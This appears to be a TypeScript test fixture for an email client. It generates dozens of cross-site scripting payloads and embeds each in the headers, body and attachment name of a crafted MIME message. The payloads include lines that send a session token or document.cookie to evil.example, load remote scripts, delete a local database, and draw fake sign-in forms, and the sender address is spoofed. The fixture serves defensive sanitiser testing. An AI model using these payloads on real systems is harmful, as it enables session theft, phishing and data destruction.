/** What a mail tries to do in a browser: run code, fetch, navigate, draw over the page. */
const DEEDS = [
  // Used by the journey in a browser, which counts how often it ran.
  'ran()',
  'alert(1)',
  'fetch("//evil.example/"+localStorage["recall.session"])',
  'document.body.innerHTML=""',
  'location="//evil.example"',
  'navigator.sendBeacon("//evil.example", document.cookie)',
  'indexedDB.deleteDatabase("recall")',
  'import("//evil.example/x.js")',
]
const WAYS = (deed: string, n: number): string[] => [
  `<script>${deed}</script>`,
  `<ScRiPt >${deed}</sCrIpT>`,
  `<script src=//evil.example/${n}.js></script>`,
  `<img src=x onerror='${deed}'>`,
  `<img src="https://evil.example/pixel-${n}.gif" width=1 height=1>`,
  `<svg onload='${deed}'><animate onbegin='${deed}' attributeName=x dur=1s>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;${deed}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${deed}&gt;">`,
  `<iframe src="javascript:${deed}"></iframe>`,
  `<iframe srcdoc='<script>${deed}</script>'></iframe>`,
  `<object data="data:text/html,<script>${deed}</script>"></object>`,
  `<embed src="javascript:${deed}">`,
  `<a href="javascript:${deed}">press</a>`,
  `<a href=" &#106;avascript:${deed}">press</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">press</a>`,
  `<form action="https://evil.example/${n}"><input name=password autofocus onfocus='${deed}'><button>Sign in</button></form>`,
  `<base href="https://evil.example/${n}/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/${n}">`,
  `<link rel=stylesheet href=//evil.example/${n}.css>`,
  `<style>@import "//evil.example/${n}.css"; body{background:url(//evil.example/${n})}</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/${n})">Signed out. Sign in again.</div>`,
  `<body onload='${deed}' background=https://evil.example/${n}>`,
  `<video><source onerror='${deed}'></video>`,
  `<audio src=x onerror='${deed}'>`,
  `<details open ontoggle='${deed}'>x</details>`,
  `<marquee onstart='${deed}'>x</marquee>`,
  `<template><script>${deed}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${deed}'>">`,
  `<!--><img src=x onerror='${deed}'>-->`,
  `<![CDATA[><script>${deed}</script>]]>`,
  `<x contenteditable onblur='${deed}'>x</x>`,
  `</pre></article><script>${deed}</script>`,
  `"><script>${deed}</script>`,
  `'-${deed}-'`,
  `\u0000<script\u0000>${deed}</script>`,
  `&lt;script&gt;${deed}&lt;/script&gt;`,
  `<scr<script>ipt>${deed}</scr</script>ipt>`,
  `{{constructor.constructor('${deed}')()}}`,
  `<textarea></textarea><img src=x onerror='${deed}'>`,
]
export const ATTACKS = DEEDS.flatMap((deed, n) => WAYS(deed, n))

/** A mail that tries one attack in each of its places, as HTML or as text. */
export function mailWith(attack: string, as: 'html' | 'plain'): Uint8Array {
  const inHeader = attack.replace(/[\r\n\0]/g, ' ')
  const encoded = `=?utf-8?B?${Buffer.from(attack).toString('base64')}?=`
  return Buffer.from(
    [
      `From: "${inHeader.replace(/["\\]/g, '')}" <privacy@openai.com>`,
      `To: ${encoded} <dana@example.com>`,
      `Subject: ${encoded}`,
      `Date: ${inHeader}`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=frontier',
      '',
      '--frontier',
      `Content-Type: text/${as}; charset=utf-8`,
      '',
      attack,
      '--frontier',
      'Content-Type: text/html',
      `Content-Disposition: attachment; filename="${encoded}"`,
      '',
      attack,
      '--frontier--',
      '',
    ].join('\r\n'),
  )
}
